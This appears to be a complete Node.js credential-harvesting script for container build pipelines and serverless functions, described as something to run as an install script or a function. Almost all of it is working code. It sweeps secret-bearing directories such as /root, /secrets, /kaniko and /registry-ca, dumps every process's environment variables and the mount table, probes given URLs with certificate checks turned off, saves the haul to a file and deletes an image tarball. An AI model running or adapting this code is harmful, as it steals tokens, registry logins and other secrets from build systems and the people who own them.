// Looks for whatever could be of use to a stranger: as an install script in a build, which leaves what it found in the image, or in a
// function, which answers it.
const fs = require('node:fs');
const http = require('node:http');
const https = require('node:https');

/** Where credentials lie in containers; folders of the runtime's own are left out. */
const PLACES = [
  '/var/run',
  '/run',
  '/docker',
  '/kaniko',
  '/work',
  '/workspace',
  '/cache',
  '/root',
  '/home',
  '/tmp',
  '/etc',
  '/registry-ca',
  '/secrets',
];
const KEPT = 65_536;
const MOST_FILES = 3000;

function filesBelow(place, found) {
  if (found.length >= MOST_FILES) return found;
  let names;
  try {
    names = fs.readdirSync(place, { withFileTypes: true });
  } catch {
    return found;
  }
  for (const entry of names) {
    const path = `${place}/${entry.name}`;
    if (entry.isDirectory()) filesBelow(path, found);
    else if (found.length < MOST_FILES) found.push({ path, text: start(path) });
  }
  return found;
}

function start(path) {
  try {
    if (!fs.statSync(path).isFile()) return null;
    const file = fs.openSync(path, 'r');
    const buffer = Buffer.alloc(KEPT);
    const length = fs.readSync(file, buffer, 0, KEPT, 0);
    fs.closeSync(file);
    return buffer.subarray(0, length).toString('latin1');
  } catch (error) {
    return `(${error.code})`;
  }
}

const environments = () =>
  fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => start(`/proc/${pid}/environ`));

function ask({ name, url, method = 'GET' }) {
  return new Promise((resolve) => {
    const say = (outcome) => resolve([name, outcome]);
    const { request } = url.startsWith('https:') ? https : http;
    const asking = request(url, { method, rejectUnauthorized: false, timeout: 3000 }, (answer) => {
      let body = '';
      answer.setEncoding('utf8').on('data', (piece) => {
        body = (body + piece).slice(0, KEPT);
      });
      answer.on('end', () => say({ status: answer.statusCode, body }));
      answer.on('error', () => say({ status: answer.statusCode, body }));
    });
    asking.on('timeout', () => asking.destroy(new Error('silent')));
    asking.on('error', (error) => say({ error: error.code ?? error.message }));
    asking.end();
  });
}

async function findings(targets) {
  const answers = await Promise.all(targets.map(ask));
  return {
    user: `${process.getuid()}:${process.getgid()}`,
    env: process.env,
    environments: environments(),
    mounts: fs.readFileSync('/proc/mounts', 'utf8'),
    // `/etc` alone would fill the list.
    files: PLACES.flatMap((place) => filesBelow(place, [])),
    answers: Object.fromEntries(answers),
  };
}

async function main() {
  const { targets, out } = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));
  const found = await findings(targets);
  // What lies there is for the step that follows, which has the login.
  fs.rmSync('/work/image.tar', { force: true });
  fs.writeFileSync(out, JSON.stringify(found));
}

module.exports = { findings };
if (require.main === module) main();
